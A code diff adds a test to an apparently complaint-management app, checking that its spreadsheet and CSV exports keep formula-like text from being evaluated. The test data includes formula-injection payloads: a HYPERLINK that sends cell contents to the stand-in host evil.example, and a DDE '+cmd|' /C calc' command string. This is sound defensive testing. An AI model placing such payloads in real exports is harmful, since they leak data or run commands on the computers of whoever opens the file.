@@ -49,3 +49,34 @@ def test_a_weekly_report_shows_change_movers_and_downloads(db):
     # five charts as images: score distribution, 12-week trend, SLA compliance, categories, channels
     images = re.findall(rb"<<[^<>]*/ColorSpace /DeviceRGB[^<>]*/Subtype /Image[^<>]*>>", pdf)  # not their alpha masks
     assert len(images) == 5
+
+
+def test_formula_like_text_in_every_spreadsheet_export_is_text(db):
+    """A case title, or an outlet name, typed as a formula is shown as typed, never evaluated."""
+    from complaint_console.db.models import Outlet
+    from complaint_console.services import score_export, scores
+
+    demo.load(db, DEMO_NOW)
+    assert freeze_week(db, WEEK, DEMO_NOW)
+    ticket = db.exec(select(Ticket).where(Ticket.outlet_id.is_not(None)).limit(1)).one()
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    db.add(TypicalCase(ticket_id=ticket.id, week_start=WEEK, title=attack, practice="bad", lesson="+cmd|' /C calc'!A0"))
+    outlet = db.get(Outlet, ticket.outlet_id)
+    outlet.name = "@SUM(1+1)*cmd"
+    db.add(outlet)
+    db.commit()
+    report = reports.load_report(db, WEEK, DEMO_NOW)
+
+    book = openpyxl.load_workbook(io.BytesIO(reports.report_xlsx(db, report, DEMO_NOW)))
+    title, lesson = book["cases"]["B2"], book["cases"]["D2"]
+    assert (title.value, title.data_type, title.quotePrefix) == (attack, "s", True)
+    assert (lesson.value, lesson.data_type) == ("+cmd|' /C calc'!A0", "s")
+    names = [c for c in book["outlets"]["C"] if c.value == "@SUM(1+1)*cmd"]
+    assert names and all(c.data_type == "s" for c in names)
+    formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+    rows, _ = scores.score_table(db, scores.TableQuery(WEEK), DEMO_NOW, size=None)
+    sheet = openpyxl.load_workbook(io.BytesIO(score_export.to_xlsx(rows, "t"))).active
+    assert [c.data_type for c in sheet["C"] if c.value == "@SUM(1+1)*cmd"] == ["s"]
+    assert "'@SUM(1+1)*cmd" in score_export.to_csv(rows)
